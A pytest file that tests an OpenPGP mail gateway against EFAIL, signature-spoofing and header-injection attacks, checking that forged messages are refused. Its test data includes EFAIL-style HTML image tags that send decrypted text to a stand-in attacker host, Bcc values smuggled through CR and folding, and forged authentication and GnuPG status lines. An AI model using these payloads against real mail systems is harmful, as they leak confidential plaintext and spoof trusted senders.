# SPDX-License-Identifier: Apache-2.0
"""What is known of attacks on encrypted and signed mail (EFAIL; "Johnny, you are fired"; SigSpoof), turned against the gateway
that opens: each is refused by name, or opened with nothing in it that the attacker wanted; beside each kind the nearest
honest message."""

import pytest
from letters import AGENT, FINANCES, raw_mail
from openpgp_forge import HEAD, BOUNDARY, armour, body, compressed, entity, literal, notation, packet, split_packets, with_word
from peer import forging_peer
from pgp import gpg, make_key, stop_agent

SECRET = "Texte confidentiel du dossier 4711."
INSIDE = entity(SECRET + "\r\n")
ADJOINT = "adjoint@finances.gov.example"
PART = b"--" + BOUNDARY.encode()
PINNED_NAME = "Passerelle interieur.gov.example <passerelle@interieur.gov.example>"


@pytest.fixture(scope="module")
def peer(labs):
    yield from forging_peer(labs, "open")


@pytest.fixture(scope="module")
def strict(labs):
    """Takes nothing that is unsigned."""
    yield from forging_peer(labs, "refuse")


@pytest.fixture(scope="module")
def impostor(tmp_path_factory):
    """Somebody whose key bears the gateway's name."""
    home = tmp_path_factory.mktemp("impostor")
    home.chmod(0o700)
    make_key(home, PINNED_NAME)
    yield str(home)
    stop_agent(home)


def refused(lab, sent, why, code=550, reason="SEAL-BROKEN"):
    reply = lab.hand(sent.raw)
    assert (reply.code, reply.reason) == (code, reason), (reply, lab.peer_log()[-600:])
    assert why in reply.text, reply.text
    assert not lab.in_peer_mailbox(sent.message_id)
    assert why in lab.peer_records()[-1]["detail"]


def opened(lab, sent, state="unsigned", text=SECRET.encode()):
    reply = lab.hand(sent.raw)
    assert reply.code == 250, (reply, lab.peer_log()[-600:])
    raw, record = lab.delivered(sent)
    raw = raw.replace(b"\r\n", b"\n")
    assert raw.partition(b"\n\n")[2].strip() == text
    assert record["verdict"] == "unseal"
    assert f"policy.khatm-seal={state}".encode() in raw.replace(b"\n\t", b" ")
    return raw.partition(b"\n\n")[0] + b"\n"


# --- packets ---------------------------------------------------------------------------------------------------------

def in_parts(tag, content, first):
    """A packet whose length is told in parts, the first of 2^first octets."""
    size = 1 << first
    rest = content[size:]
    return bytes([0xC0 | tag, 224 + first]) + content[:size] + b"\xff" + len(rest).to_bytes(4, "big") + rest


def hidden(forger, n):
    """n session-key packets that hide whose they are, none of them ours."""
    head, length = forger.key_packet[:2], 2
    content = forger.key_packet[length:]
    return b"".join(head + content[:1] + bytes(8) + content[9:-8] + number.to_bytes(8, "big") for number in range(n))


def ciphertexts(forger):
    """name, what the refusal says, ciphertext."""
    keys, data = [whole for _tag, whole in split_packets(forger.encrypt(INSIDE))]
    long = forger.protected(literal(INSIDE + bytes(1000)))[len(keys):]
    aead, large = forger.aead(literal(INSIDE)), forger.aead(literal(INSIDE + bytes(99_999)))
    return [
        ("a first part that is too short", "cut into parts", keys + in_parts(18, long[6:], 4)),
        ("a session key in parts", "cut into parts", in_parts(1, keys[2:], 4) + data),
        ("a session key without an end", "no definite end", b"\x87" + keys[2:] + data),
        ("longer than it is", "in the middle", keys + b"\xd2\xff\xff\xff\xff\xff" + data[2:]),
        ("1,025 session keys", "too many session-key", keys * 1025 + data),
        ("AEAD: changed", "not one protected message", aead[:-60] + bytes([aead[-60] ^ 1]) + aead[-59:]),
        ("AEAD: changed near the end", "AEAD alone", large[:-60] + bytes([large[-60] ^ 1]) + large[-59:]),
        ("AEAD: last tag cut off", "not one protected message", forger.aead(literal(INSIDE), last=False)),
        ("AEAD: cut off within a text", "AEAD alone", forger.aead(literal(INSIDE + b"\n" * 99_999, kind=b"t"), chunks=5)),
        ("AEAD: cut at a chunk", "ends in the middle", forger.aead(literal(INSIDE + bytes(99_999)), chunks=5)),
        ("AEAD: chunks exchanged", "not one protected message", forger.aead(literal(INSIDE + bytes(9000)), order=(1, 0, 2))),
        ("AEAD that nobody signed", "AEAD alone", large),
        ("AEAD of another version", "version", keys + packet(20, b"\2" + bytes(60))),
        ("compressed forty times", "not one protected message", forger.protected(onion(40))),
        ("a marker alone inside", "not one protected message", forger.protected(packet(10, b"PGP"))),
        ("clear text behind a marker inside", "several pieces", forger.protected(packet(10, b"PGP") + literal(INSIDE) + literal(b"x"))),
        ("another message behind the text", "encrypted once more", forger.protected(literal(INSIDE) + forger.encrypt(INSIDE))),
    ]


def onion(depth):
    packets = literal(INSIDE)
    for _layer in range(depth):
        packets = compressed(packets)
    return packets


PACKETS = ["a first part that is too short", "a session key in parts", "a session key without an end", "longer than it is",
           "1,025 session keys", "AEAD: changed", "AEAD: changed near the end", "AEAD: last tag cut off", "AEAD: cut off within a text",
           "AEAD: cut at a chunk", "AEAD: chunks exchanged", "AEAD that nobody signed", "AEAD of another version",
           "compressed forty times", "a marker alone inside", "clear text behind a marker inside",
           "another message behind the text"]


@pytest.mark.parametrize("name", PACKETS)
def test_packets_that_do_not_make_one_message(peer, name):
    if not hasattr(peer, "packets"):
        peer.packets = {row[0]: row[1:] for row in ciphertexts(peer.forger)}
        assert list(peer.packets) == PACKETS
    why, sealed = peer.packets[name]
    refused(peer, raw_mail(HEAD, body(armour(sealed))), why)


def sound(forger):
    return {
        "compressed twice": forger.protected(onion(2)),
        "text, not octets": forger.protected(literal(INSIDE.replace(b"\r\n", b"\n"), kind=b"t")),
        "UTF-8, not octets": forger.protected(literal(INSIDE, kind=b"u")),
        "of type m": forger.protected(literal(INSIDE, kind=b"m")),
        "for your eyes only": forger.protected(literal(INSIDE, name=b"_CONSOLE")),
        "a path for a name": forger.protected(literal(INSIDE, name=b"../../etc/cron.d/x")),
        "a marker inside": forger.protected(packet(10, b"PGP") + literal(INSIDE)),
        "200 hidden session keys": hidden(forger, 200) + forger.encrypt(INSIDE, "--throw-keyids"),
        "in parts": forger.key_packet + in_parts(18, forger.protected(literal(INSIDE + b" " * 1000))[len(forger.key_packet) + 6:], 9),
    }


SOUND = ["compressed twice", "text, not octets", "UTF-8, not octets", "of type m", "for your eyes only",
         "a path for a name", "a marker inside", "200 hidden session keys", "in parts"]


@pytest.mark.parametrize("name", SOUND)
def test_rare_and_sound_packets_are_opened(peer, name):
    if not hasattr(peer, "sound"):
        peer.sound = sound(peer.forger)
        assert list(peer.sound) == SOUND
    opened(peer, raw_mail(HEAD, body(armour(peer.sound[name]))))


# --- MIME ------------------------------------------------------------------------------------------------------------

def disguises(forger):
    """name, what the refusal says, header fields, body."""
    good = armour(forger.encrypt(INSIDE))
    whole = HEAD + b"\r\n" + body(good)
    inner = whole.replace(BOUNDARY.encode(), b"interieur")
    clear = b"\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attaquant.example/?\r\n"
    return [
        ("a comment in the type", "in part only", HEAD.replace(b"encrypted;", b"encrypted (mixed);"), body(good)),
        ("two boundaries", "in part only", HEAD.replace(b"\r\n boundary", b" boundary=\"x\";\r\n boundary"), body(good)),
        ("a boundary in pieces", "in part only", HEAD.replace(b"boundary=", b"boundary*0="), body(good)),
        ("no protocol", "in part only", HEAD.replace(b"protocol", b"x-protocol"), body(good)),
        ("two armours", "follows the armour", HEAD, body(good + good)),
        ("armour of a part", "not an armoured", HEAD, body(good.replace(b"MESSAGE--", b"MESSAGE, PART 1/2--"))),
        ("armour called a signed message", "not an armoured", HEAD, body(good.replace(b"PGP MESSAGE", b"PGP SIGNED MESSAGE"))),
        ("more than a version", "first part", HEAD, body(good).replace(b"Version: 1", b"Version: 1\r\n\r\n<b>Bonjour</b>")),
        ("a nested multipart for the ciphertext", "second part", HEAD, body(good, second_head="Content-Type: multipart/mixed; boundary=\"b\"\r\n")),
        ("two types on the ciphertext", "second part", HEAD,
         body(good, second_head="Content-Type: application/octet-stream\r\nContent-Type: text/html\r\n")),
        ("a message that is an attached message", "in part only", b"MIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n", whole),
        ("an attached message between clear parts", "clear parts stand beside",
         b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"dehors\"\r\n",
         b"--dehors" + clear + b"--dehors\r\nContent-Type: message/rfc822\r\n\r\n" + inner + b"\r\n--dehors--\r\n"),
        ("a second type with a blank in its name", "in part only", HEAD + b"Content-Type : text/html\r\n", body(good)),
        ("signed around it", "in part only",
         b"MIME-Version: 1.0\r\nContent-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=\"dehors\"\r\n",
         b"--dehors\r\n" + inner.replace(b"MIME-Version: 1.0\r\n", b"") + b"\r\n--dehors" + clear + b"--dehors--\r\n"),
    ]


DISGUISES = ["a comment in the type", "two boundaries", "a boundary in pieces", "no protocol", "two armours", "armour of a part",
             "armour called a signed message", "more than a version", "a nested multipart for the ciphertext",
             "two types on the ciphertext", "a message that is an attached message", "an attached message between clear parts",
             "a second type with a blank in its name", "signed around it"]


@pytest.mark.parametrize("name", DISGUISES)
def test_what_programs_read_in_two_ways(peer, name):
    if not hasattr(peer, "disguises"):
        peer.disguises = {row[0]: row[1:] for row in disguises(peer.forger)}
        assert list(peer.disguises) == DISGUISES
    why, head, content = peer.disguises[name]
    refused(peer, raw_mail(head, content), why)


def test_other_spellings_of_the_same_type_are_opened(peer):
    head = HEAD.replace(b"Content-Type: multipart/encrypted; protocol", b"CONTENT-TYPE:\r\n\tMultipart/Encrypted ;\r\n PROTOCOL ")
    opened(peer, raw_mail(head, body(armour(peer.forger.encrypt(INSIDE)))))


def test_clear_text_before_the_parts_is_gone_when_opened(peer):
    before = "<html><img src=\"http://attaquant.example/?\r\n\r\n-----BEGIN PGP SIGNED MESSAGE-----\r\n"
    opened(peer, raw_mail(HEAD, body(armour(peer.forger.encrypt(INSIDE)), before=before)))


# --- header fields ---------------------------------------------------------------------------------------------------

PROTECTED = "Content-Type: text/plain; hp=\"cipher\"\r\n"


def sealed(lab, head, *, outside=b"", subject="...", sender=AGENT):
    return raw_mail(outside + HEAD, body(armour(lab.forger.encrypt(entity(SECRET + "\r\n", head)))), subject=subject, sender=sender)


WRONG_INSIDE = {
    "another name of the sender": ("sender inside", f"From: \"Le ministre\" <{AGENT}>\r\n" + PROTECTED),
    "a list as its sender": ("sender inside", f"From: {AGENT}\r\nSender: ministre@interieur.gov.example\r\n" + PROTECTED),
    "a field without a colon": ("header section", "Subject: Objet\r\nBcc victime@gmail.com\r\n" + PROTECTED),
    "a blank in a field's name": ("header section", "Subject : Objet\r\n" + PROTECTED),
    "a field's name beyond ASCII": ("header section", "Sujet\u00e9: Objet\r\n" + PROTECTED),
    "NUL in a field": ("header section", "Subject: Ob\0jet\r\n" + PROTECTED),
    "5,000 fields": ("too many header fields", "".join(f"X-{n}: n\r\n" for n in range(5000)) + PROTECTED),
    "100,000 times a field that is outside": ("too many header fields", "To: a\r\n" * 100_000 + PROTECTED),
    "two types of which one is blank": ("header section", PROTECTED + "Content-Type : text/html\r\n"),
}


@pytest.mark.parametrize("name", WRONG_INSIDE)
def test_header_section_inside_that_is_none(peer, name):
    why, head = WRONG_INSIDE[name]
    refused(peer, sealed(peer, head), why)


def test_hundreds_of_fields_inside_are_put_in_place(peer):
    header = opened(peer, sealed(peer, "".join(f"X-Champ-{n}: {n}\r\n" for n in range(900)) + "Subject: Objet\r\n" + PROTECTED))
    assert header.count(b"X-Champ-") == 900 and b"\nSubject: Objet\n" in header


INJECTED = {
    "bare CR": "Subject: Objet\rBcc: victime@gmail.com\r\n",
    "CR CR LF": "Subject: Objet\r\r\n Bcc: victime@gmail.com\r\n",
    "a fold of blanks alone": "Subject: Objet\r\n \r\n\tBcc: victime@gmail.com\r\n",
    "encoded words": "Subject: =?utf-8?q?Objet=0D=0ABcc:_victime=40gmail.com?=\r\n",
    "Bcc": "Subject: Objet\r\nBcc: victime@gmail.com\r\nResent-Bcc: victime@gmail.com\r\n",
}


@pytest.mark.parametrize("name", INJECTED)
def test_no_field_is_smuggled_in_by_a_value(peer, name):
    header = opened(peer, sealed(peer, INJECTED[name] + PROTECTED))
    assert not [line for line in header.lower().split(b"\n") if line.startswith((b"bcc", b"resent-bcc"))], header
    assert b"\nSubject: " in header


CLAIMS = {
    "of this gateway": "Authentication-Results: mx.finances.gov.example; spf=pass policy.khatm-seal=verified\r\n",
    "of another": "Authentication-Results: mx.autre.example; dkim=pass\r\n",
    "in capitals": "AUTHENTICATION-RESULTS: mx.autre.example; dkim=pass\r\n",
    "folded": "Authentication-Results:\r\n mx.finances.gov.example\r\n ; policy.khatm-seal=verified\r\n",
    "ARC": "ARC-Authentication-Results: i=1; mx.finances.gov.example; dkim=pass\r\nARC-Seal: i=1\r\n",
    "Received-SPF": "Received-SPF: pass dkim=pass\r\n",
    "X-Khatm": "X-Khatm-Seal: verified\r\nx-khatm-ticket: v=1; dkim=pass\r\nKhatm-Level: 0\r\n",
    "the way": "Received: from a by b dkim=pass\r\nReturn-Path: <dkim=pass>\r\nDelivered-To: dkim=pass\r\nX-Original-To: dkim=pass\r\n",
    "told as outside": "HP-Outer: Authentication-Results: mx.finances.gov.example; dkim=pass\r\nHP-Outer: Received: dkim=pass\r\n",
}


@pytest.mark.parametrize("where", ["inside", "outside", "both"])
@pytest.mark.parametrize("name", CLAIMS)
def test_what_checks_found_is_never_taken_from_a_message(peer, name, where):
    claim = CLAIMS[name]
    sent = sealed(peer, (claim if where != "outside" else "") + "Subject: Objet\r\n" + PROTECTED,
                  outside=claim.encode() if where != "inside" else b"")
    header = opened(peer, sent)
    assert b"\nSubject: Objet\n" in header
    results = [field for field in unfolded(header) if field.lower().startswith((b"authentication-results:", b"x-khatm", b"khatm-"))]
    ours = [field for field in results if b"policy.khatm-seal=unsigned" in field]
    kept = [field for field in results if field not in ours]
    assert len(ours) == 1 and b"verified" not in header
    assert not [field for field in kept if b"mx.finances.gov.example" in field or b"khatm" in field.lower()], kept
    if where == "inside":
        assert not kept and b"dkim=pass" not in header.replace(ours[0], b""), header


def unfolded(header):
    return header.replace(b"\n\t", b" ").replace(b"\n ", b" ").split(b"\n")


MARKS = {
    "clear, then cipher": "Content-Type: text/plain; hp=\"clear\"; hp=\"cipher\"\r\n",
    "cipher, then clear": "Content-Type: text/plain; hp=\"cipher\"; hp=\"clear\"\r\n",
    "both kinds": "Content-Type: text/plain; hp=\"clear\"; protected-headers=\"v1\"\r\n",
    "in a comment": "Content-Type: text/plain (; hp=\"cipher\")\r\n",
    "in a quoted string": "Content-Type: text/plain; x=\"; hp=cipher\"\r\n",
    "in two types": "Content-Type: text/plain; hp=\"cipher\"\r\nContent-Type: text/plain; hp=\"cipher\"\r\n",
    "in pieces": "Content-Type: text/plain; hp*0=\"ci\"; hp*1=\"pher\"\r\n",
}


@pytest.mark.parametrize("name", MARKS)
def test_the_sender_stays_whatever_mark_of_protection_stands_there(peer, name):
    """However it is read: either that sender is refused, or nothing inside is the header section's."""
    sent = sealed(peer, "From: ministre@interieur.gov.example\r\nSubject: Faux objet\r\n" + MARKS[name], subject="Objet")
    reply = peer.hand(sent.raw)
    if reply.code == 550:
        assert reply.reason == "SEAL-BROKEN" and "sender inside" in reply.text, reply
        return
    header = peer.delivered(sent)[0].replace(b"\r\n", b"\n").partition(b"\n\n")[0]
    assert header.count(b"\nFrom: ") == 1 and b"ministre" not in header and b"Faux" not in header, header


def test_what_is_told_as_outside_takes_nothing_of_the_way_out(peer):
    gone = "".join(f"HP-Outer: {name}: x\r\n" for name in ("From", "Sender", "Received", "Return-Path", "Content-Type", "MIME-Version", "X-Liste"))
    header = opened(peer, sealed(peer, gone + "Subject: Objet\r\n" + PROTECTED, outside=b"X-Liste: x\r\nX-Autre: x\r\n"))
    for name in (b"From: ", b"Received: ", b"MIME-Version: ", b"Content-Type: ", b"X-Autre: "):
        assert b"\n" + name in b"\n" + header, (name, header)
    assert b"X-Liste" not in header


# --- signatures ------------------------------------------------------------------------------------------------------

def signed(lab, home, content=INSIDE, *options):
    """Packets, in `home` signed."""
    return gpg(home, "--compress-algo", "none", *options, "--sign", stdin=content).stdout


def own(lab):
    return lab.env["GNUPGHOME_OWN"]


def pinned(lab):
    return gpg(own(lab), "--with-colons", "--list-keys").stdout.decode().split("fpr:::::::::")[1][:40]


def status_of(lab):
    key = pinned(lab)
    return f"x\n[GNUPG:] NEWSIG\n[GNUPG:] GOODSIG {key[-16:]} G\n[GNUPG:] VALIDSIG {key} 2026-11-21 1795255200 0 4 0 22 10 00 {key}\n".encode()


NOTED = ("--set-notation", "dossier@interieur.gov.example=4711")


def deceptions(lab, impostor):
    """name, what the refusal says, ciphertext."""
    forger, status = lab.forger, status_of(lab)
    first, text, last = [whole for _tag, whole in split_packets(signed(lab, own(lab)))]
    theirs = [whole for _tag, whole in split_packets(signed(lab, impostor))]
    armoured = armour(signed(lab, own(lab)))
    clear = gpg(own(lab), "--clear-sign", stdin=SECRET.encode()).stdout.replace(b"\n", b"\r\n")
    rows = [
        ("by a key that bears the gateway's name", "does not pin", signed(lab, impostor)),
        ("status in a notation", "does not pin", theirs[0] + text + with_word(theirs[2], 20, notation(b"s@autre.example", status))),
        ("status in a notation's name", "does not pin", theirs[0] + text + with_word(theirs[2], 20, notation(status, b"x"))),
        ("status in a policy", "does not pin", theirs[0] + text + with_word(theirs[2], 26, status)),
        ("status in the signer's name", "does not pin", theirs[0] + text + with_word(theirs[2], 28, status)),
        ("status in the name of the text", "nobody signed", literal(INSIDE, status[:255])),
        ("a notation that must be understood", "signature is false", signed(
            lab, own(lab), INSIDE, "--set-notation", "!dossier@interieur.gov.example=4711")),
        ("a stranger's within the gateway's", "several signatures", first + theirs[0] + text + theirs[2] + last),
        ("the gateway's within a stranger's", "several signatures", theirs[0] + first + text + last + theirs[2]),
        ("announced by the gateway, made by a stranger", "does not pin", first + text + theirs[2]),
        ("announced by a stranger, made by the gateway", "does not pin", theirs[0] + text + last),
        ("before an addition", "several pieces", first + text + last + literal(b"suite")),
        ("over the first of two texts", "several pieces", first + text + literal(b"suite") + last),
        ("over the text in another kind", "signature is false", first + literal(INSIDE.replace(b"\r\n", b"\n"), kind=b"t") + last),
        ("opaque in the text", "nobody signed", literal(entity(armoured.decode()))),
        ("clear in the text", "nobody signed", literal(entity(clear.decode()))),
    ]
    return [(name, why, armour(forger.protected(packets))) for name, why, packets in rows]


DECEPTIONS = ["by a key that bears the gateway's name", "status in a notation", "status in a notation's name",
              "status in a policy", "status in the signer's name", "status in the name of the text",
              "a notation that must be understood", "a stranger's within the gateway's", "the gateway's within a stranger's",
              "announced by the gateway, made by a stranger", "announced by a stranger, made by the gateway", "before an addition",
              "over the first of two texts", "over the text in another kind", "opaque in the text", "clear in the text"]


@pytest.mark.parametrize("name", DECEPTIONS)
def test_signature_that_only_looks_like_the_gateway_s(strict, impostor, name):
    if not hasattr(strict, "deceptions"):
        strict.deceptions = {row[0]: row[1:] for row in deceptions(strict, impostor)}
        assert list(strict.deceptions) == DECEPTIONS
    why, sealed_text = strict.deceptions[name]
    refused(strict, raw_mail(HEAD, body(sealed_text)), why)


@pytest.mark.parametrize("options", [NOTED, ("--set-policy-url", "https://interieur.gov.example/"), ("--textmode",)],
                         ids=["notation", "policy", "text"])
def test_the_gateway_s_own_with_more_in_it_is_verified(strict, options):
    content = INSIDE if "--textmode" not in options else INSIDE.replace(b"\r\n", b"\n")
    opened(strict, raw_mail(HEAD, body(armour(strict.forger.protected(signed(strict, own(strict), content, *options))))), "verified")


def test_signed_and_protected_by_aead(strict):
    """gpg says that all is well with AEAD that was changed; the signature knows better."""
    packets = signed(strict, own(strict), INSIDE + b" " * 99_999)
    sealed_text = strict.forger.aead(packets)
    opened(strict, raw_mail(HEAD, body(armour(sealed_text))), "verified")
    changed = sealed_text[:-9000] + bytes([sealed_text[-9000] ^ 1]) + sealed_text[-8999:]
    for bad in (changed, strict.forger.aead(packets, chunks=5)):
        refused(strict, raw_mail(HEAD, body(armour(bad))), "not one protected message")


# --- once more, by somebody who has it ---------------------------------------------------------------------------------

ORIGINAL = entity(SECRET + "\r\n", f"From: {AGENT}\r\nTo: {FINANCES}\r\nDate: Mon, 1 Jun 2026 10:00:00 +0000\r\n"
                                   "Message-ID: <juin@interieur.gov.example>\r\nSubject: Note de juin\r\n"
                                   "Reply-To: greffe@interieur.gov.example\r\n" + PROTECTED)


@pytest.fixture(scope="module")
def june(strict):
    """What the gateway signed in June, as any of its recipients can take it out and seal it anew."""
    return body(armour(strict.forger.protected(signed(strict, own(strict), ORIGINAL))))


def test_what_was_signed_is_shown_with_its_own_date_and_subject(strict, june):
    """Whatever was written around it: old words do not become new ones."""
    sent = raw_mail(HEAD + b"Reply-To: voleur@gmail.com\r\nCc: voleur@gmail.com\r\n", june, to=ADJOINT, subject="Votre accord de novembre")
    sent.message_id = "<juin@interieur.gov.example>"
    header = opened(strict, sent, "verified")
    fields = dict(field.split(b": ", 1) for field in unfolded(header) if b": " in field)
    assert fields[b"Subject"] == b"Note de juin" and fields[b"To"] == FINANCES.encode()
    assert fields[b"Date"].startswith(b"Mon, 1 Jun 2026") and fields[b"Reply-To"] == b"greffe@interieur.gov.example"
    assert b"novembre" not in header


@pytest.mark.parametrize("sender", ["ministre@interieur.gov.example", "\"Agent\" <agent@interieur.gov.example>"])
def test_what_was_signed_by_one_is_no_other_s(strict, june, sender):
    refused(strict, raw_mail(HEAD, june, sender=sender), "sender inside")


def test_what_one_ministry_signed_is_not_another_s(strict, june):
    """A peer that seals it anew and sends it as its own, or as the first's."""
    theirs = raw_mail(HEAD, june, sender="greffe@justice.gov.example")
    reply = strict.hand(theirs.raw, sender="greffe@justice.gov.example")
    assert reply.code == 550, reply
    as_first = raw_mail(HEAD, june)
    reply = strict.hand(as_first.raw, client_address="203.0.113.5")
    assert (reply.code, reply.reason) == (550, "AUTH"), reply
    assert not strict.in_peer_mailbox(theirs.message_id) and not strict.in_peer_mailbox(as_first.message_id)
